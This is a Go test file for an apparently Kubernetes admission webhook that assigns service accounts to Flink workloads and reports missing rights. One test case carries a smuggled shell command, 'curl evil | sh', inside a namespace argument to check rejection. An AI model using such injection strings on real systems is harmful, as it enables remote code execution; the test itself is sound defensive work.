package admission

import (
	"strings"
	"testing"

	"github.com/flink-ha/flink-ha-webhook/policy"
	"github.com/flink-ha/flink-ha-webhook/validation"
)

const taskManager = `
apiVersion: apps/v1
kind: Deployment
metadata: {name: tm}
spec: {template: {spec: {containers: [{name: tm, image: "flink:2.0", args: [taskmanager], volumeMounts: [{name: c, mountPath: /opt/flink/conf}]}], volumes: [{name: c, configMap: {name: flink-config}}]}}}
`

// ownTaskManager says in its arguments all that is asked of it.
var ownTaskManager = strings.Replace(taskManager, "args: [taskmanager]",
	"args: [taskmanager, -Dhigh-availability.type=kubernetes, -Dkubernetes.namespace=team, -Dkubernetes.cluster-id=demo]", 1)

// withPod adds fields to the pod spec of a workload.
func withPod(workload, fields string) string {
	return strings.Replace(workload, "spec: {containers", "spec: {"+fields+", containers", 1)
}

func TestMutate(t *testing.T) {
	const added = `[{"op":"add","path":"/spec/template/spec/serviceAccountName","value":"flink"}]`
	own := ownTaskManager
	job := strings.NewReplacer("apps/v1", "batch/v1", "Deployment", "Job", "taskmanager", "standalone-job").Replace(own)
	credentials := func(a *accountsAround) {
		a.accounts["default"] = validation.Account{Exists: true, Credentials: []string{"imagePullSecrets"}}
	}
	choose := func(chosen policy.DefaultCredentials) func(*policy.Policy) {
		return func(p *policy.Policy) { p.ServiceAccounts.DefaultCredentials = chosen }
	}
	for name, tc := range map[string]accountCase{
		"high availability in the mounted ConfigMap": {object: taskManager, beside: []string{goodConfiguration}, want: added, wantAccount: "injected flink"},
		"high availability in its own arguments":     {object: own, want: added, wantAccount: "injected flink"},
		"a StatefulSet":                              {object: strings.Replace(own, "Deployment", "StatefulSet", 1), want: added, wantAccount: "injected flink"},
		"a Job":                                      {object: job, want: added, wantAccount: "injected flink"},
		"a ConfigMap that is not known":              {object: taskManager},
		"a ConfigMap without high availability":      {object: taskManager, beside: []string{noHighAvailability}},
		"a namespace of its rights that is not known": {
			object: strings.Replace(own, "-Dkubernetes.namespace=team", "-Dkubernetes.namespace=$(NAMESPACE)", 1),
		},
		"its own arguments switch it off": {
			object: strings.Replace(taskManager, "args: [taskmanager]", "args: [taskmanager, -Dhigh-availability.type=NONE]", 1),
			beside: []string{goodConfiguration},
		},
		"ZooKeeper":                 {object: strings.Replace(own, "=kubernetes", "=zookeeper", 1)},
		"credentials of its own":    {object: strings.Replace(own, "-Dkubernetes.namespace", "-Dkubernetes.config.file=/kube/config, -Dkubernetes.namespace", 1)},
		"a pod that is not Flink's": {object: strings.Replace(own, "args: [taskmanager", "args: [serve", 1)},
		"an object on its way out":  {object: strings.Replace(own, "{name: tm}", `{name: tm, deletionTimestamp: "2026-01-01T00:00:00Z"}`, 1)},
		"something else owns it":    {object: strings.Replace(own, "{name: tm}", "{name: tm, ownerReferences: [{kind: FlinkDeployment, name: x, uid: u}]}", 1)},
		"a CronJob owns it":         {object: strings.Replace(job, "{name: tm}", "{name: tm, ownerReferences: [{kind: CronJob, name: x, uid: u}]}", 1), want: added, wantAccount: "injected flink"},
		"a namespace nobody named": {
			object: taskManager, beside: []string{strings.Replace(goodConfiguration, "kubernetes.namespace: team", "a: b", 1)}, wantAccount: "insufficient flink",
		},
		"a namespace that is none":     {object: strings.Replace(own, "-Dkubernetes.namespace=team", `"-Dkubernetes.namespace=x; curl evil | sh #"`, 1)},
		"the policy injects nothing":   {object: own, policy: func(p *policy.Policy) { p.ServiceAccounts.Inject = false }},
		"only in labelled namespaces":  {object: own, policy: func(p *policy.Policy) { p.ServiceAccounts.LabelledNamespacesOnly = true }},
		"an account of its own":        {object: withPod(own, "serviceAccountName: mine"), around: may("mine", "all"), wantAccount: "already-set mine"},
		"one of its own, lacking":      {object: withPod(own, "serviceAccountName: mine"), wantAccount: "insufficient mine"},
		"one in the deprecated field":  {object: withPod(own, "serviceAccount: mine"), around: may("mine", "all"), wantAccount: "already-set mine"},
		"default, written out":         {object: withPod(own, "serviceAccountName: default"), want: replaced("serviceAccountName"), wantAccount: "injected flink"},
		"default, in both fields":      {object: withPod(own, "serviceAccount: default, serviceAccountName: default"), want: replaced("serviceAccountName", "serviceAccount"), wantAccount: "injected flink"},
		"fields that differ":           {object: withPod(own, "serviceAccount: mine, serviceAccountName: default"), want: replaced("serviceAccountName", "serviceAccount"), wantAccount: "injected flink"},
		"default, in the old field":    {object: withPod(own, "serviceAccount: default"), want: strings.Replace(replaced("serviceAccountName", "serviceAccount"), "replace", "add", 1), wantAccount: "injected flink"},
		"the namespace names another":  {object: own, around: naming("team-jobs"), want: strings.Replace(added, "flink", "team-jobs", 1), wantAccount: "injected team-jobs"},
		"the namespace says default":   {object: own, around: naming("default"), wantAccount: "insufficient default"},
		"default has the rights":       {object: own, around: may("default", "watch"), wantAccount: "sufficient default"},
		"default has other rights":     {object: own, around: may("default", "pods"), want: added, wantAccount: "injected flink"},
		"rights are not known":         {object: own, around: func(a *accountsAround) { a.unknown = "access" }, wantAccount: "unknown default"},
		"accounts are not known":       {object: own, around: func(a *accountsAround) { a.unknown = "accounts" }, wantAccount: "unknown default"},
		"the namespace is not known":   {object: own, around: func(a *accountsAround) { a.unknown = "namespace" }},
		"nobody has made the account":  {object: own, around: func(a *accountsAround) { delete(a.accounts, "flink") }, wantAccount: "missing flink", wantNote: "kubectl -n team create serviceaccount flink"},
		"the account is promised":      {object: own, around: func(a *accountsAround) { a.accounts["flink"] = validation.Account{Exists: true, Promised: true} }, want: added, wantAccount: "injected flink"},
		"the account lacks rights too": {object: own, around: may("flink", "pods"), wantAccount: "insufficient flink", wantNote: "kubectl -n team create rolebinding flink --clusterrole=flink-ha-webhook-taskmanager --serviceaccount=team:flink. Missing: list and watch on configmaps"},
		"rights in another namespace": {
			object: strings.Replace(own, "-Dkubernetes.namespace=team", "-Dkubernetes.namespace=state", 1), wantAccount: "insufficient flink",
			wantNote: "kubectl -n state create rolebinding flink --clusterrole=flink-ha-webhook-taskmanager --serviceaccount=team:flink",
		},
		"default carries credentials":            {object: own, around: credentials, wantAccount: "credentials default", wantNote: "(serviceAccounts.defaultCredentials: copy or bind). The pods would lose imagePullSecrets"},
		"credentials, and default is sufficient": {object: own, around: func(a *accountsAround) { credentials(a); a.may["default"] = "watch" }, wantAccount: "sufficient default"},
		"credentials that are copied": {
			object: own, policy: choose(policy.DefaultCredentialsCopy), want: added, wantAccount: "injected flink",
			around: func(a *accountsAround) {
				credentials(a)
				a.accounts["flink"] = validation.Account{Exists: true, Promised: true}
			},
		},
		"credentials that were copied": {
			object: own, policy: choose(policy.DefaultCredentialsCopy), want: added, wantAccount: "injected flink",
			around: func(a *accountsAround) { credentials(a); a.accounts["flink"] = a.accounts["default"] },
		},
		"credentials that nobody copies": {
			object: own, policy: choose(policy.DefaultCredentialsCopy), around: credentials, wantAccount: "credentials default",
			wantNote: `"flink", which others made, does not carry what "default" does`,
		},
		"credentials, and nothing is bound": {
			object: own, policy: choose(policy.DefaultCredentialsBind), around: credentials, wantAccount: "credentials default",
			wantNote: "kubectl -n team create rolebinding flink-default --clusterrole=flink-ha-webhook-taskmanager --serviceaccount=team:default",
		},
		"a trial": {
			object: own, around: func(a *accountsAround) { a.labels = map[string]string{"flink-ha.dev/enforce": "off"} }, wantAccount: "planned flink",
			wantNote: `they would get "flink" where the policy is enforced`,
		},
	} {
		t.Run(name, tc.run)
	}
}

// may gives an account, which is there, rights.
func may(account, what string) func(*accountsAround) {
	return func(a *accountsAround) { a.accounts[account], a.may[account] = validation.Account{Exists: true}, what }
}

// naming names the account of the namespace, which has all rights if it is not "default".
func naming(account string) func(*accountsAround) {
	return func(a *accountsAround) {
		a.labels = map[string]string{"flink-ha.dev/service-account": account}
		if account != "default" {
			may(account, "all")(a)
		}
	}
}

// replaced is the patch that replaces fields of a pod spec.
func replaced(fields ...string) string {
	var operations []string
	for _, field := range fields {
		operations = append(operations, `{"op":"replace","path":"/spec/template/spec/`+field+`","value":"flink"}`)
	}
	return "[" + strings.Join(operations, ",") + "]"
}

func TestMutateRestartsNothing(t *testing.T) {
	around := amongAccounts(t, goodConfiguration)
	scaled := strings.Replace(taskManager, "spec: {template", "spec: {replicas: 3, template", 1)
	decision, err := reviewer(t, around).Mutate(update(t, taskManager, scaled))
	if err != nil || len(decision.Edits) > 0 || decision.Account.Outcome != AccountDeferred {
		t.Errorf("the template stays: got %+v, %v, want no edit", decision.Edits, err)
	}
	if len(decision.Notes) != 1 || !strings.Contains(decision.Notes[0], "kubectl -n team set serviceaccount deployments tm flink") {
		t.Errorf("got the notes %q, want the command to run", decision.Notes)
	}
	upgraded := strings.Replace(taskManager, "flink:2.0", "flink:2.1", 1)
	decision, err = reviewer(t, around).Mutate(update(t, taskManager, upgraded))
	if err != nil || len(decision.Edits) != 1 {
		t.Errorf("the template changes anyway: got %+v, %v, want one edit", decision.Edits, err)
	}
}

// TestMutateLeavesJobsAlone: an account in the template of a Job that is there would have the API server refuse the whole update, such as
// one of a queue that sets a node selector while the Job is suspended.
func TestMutateLeavesJobsAlone(t *testing.T) {
	job := strings.NewReplacer("apps/v1", "batch/v1", "Deployment", "Job", "taskmanager", "standalone-job").Replace(ownTaskManager)
	decision, err := reviewer(t, amongAccounts(t)).Mutate(update(t, job, withPod(job, "nodeSelector: {a: b}")))
	if err != nil || len(decision.Edits) > 0 || len(decision.Notes) != 1 || !strings.Contains(decision.Notes[0], "delete the Job and create it again") {
		t.Errorf("got %+v and the notes %q, %v", decision.Edits, decision.Notes, err)
	}
}

func TestMutateMountsTheToken(t *testing.T) {
	own := withPod(taskManager, "serviceAccountName: mine")
	hardened := withPod(taskManager, "serviceAccountName: mine, automountServiceAccountToken: false")
	mounts := func(p *policy.Policy) { p.ServiceAccounts.MountToken = true }
	configured := []string{goodConfiguration}
	mine := may("mine", "all")
	without := func(a *accountsAround) {
		mine(a)
		a.accounts["mine"] = validation.Account{Exists: true, Automount: new(false)}
	}
	const replace = `[{"op":"replace","path":"/spec/template/spec/automountServiceAccountToken","value":true}]`
	const add = `[{"op":"add","path":"/spec/template/spec/automountServiceAccountToken","value":true}]`
	for name, tc := range map[string]accountCase{
		"the pod says no, and so does the policy": {beside: configured, object: hardened, around: mine, wantAccount: "already-set mine"},
		"the pod says no":                         {beside: configured, object: hardened, around: mine, policy: mounts, want: replace, wantAccount: "already-set mine"},
		"the account says no":                     {beside: configured, object: own, around: without, policy: mounts, want: add, wantAccount: "already-set mine"},
		"the pod says no, and is exempt": {
			beside: configured, around: mine, policy: mounts, wantAccount: "already-set mine",
			object: strings.Replace(hardened, "{name: tm}", `{name: tm, annotations: {exempt.flink-ha.dev/service-account-token-not-mounted: "2026-12-31 it brings its own"}}`, 1),
		},
		"nobody says no": {beside: configured, object: own, around: mine, policy: mounts, wantAccount: "already-set mine"},
		"the pod says no, and has no account": {
			beside: configured, object: withPod(taskManager, "automountServiceAccountToken: false"), policy: mounts, wantAccount: "injected flink",
			want: `[{"op":"add","path":"/spec/template/spec/serviceAccountName","value":"flink"},` + replace[1:],
		},
	} {
		t.Run(name, tc.run)
	}
	tc := accountCase{beside: configured, around: mine, policy: mounts}
	decision, err := tc.reviewer(t).Mutate(update(t, hardened, strings.Replace(hardened, "spec: {template", "spec: {replicas: 3, template", 1)))
	const command = "kubectl -n team patch deployments tm --type json -p '" + replace + "'"
	if err != nil || len(decision.Edits) > 0 || len(decision.Notes) != 1 || !strings.HasSuffix(decision.Notes[0], command) || len(decision.Notes[0]) > maxWarning {
		t.Errorf("the template stays: got %+v and the notes %q, %v", decision.Edits, decision.Notes, err)
	}
}
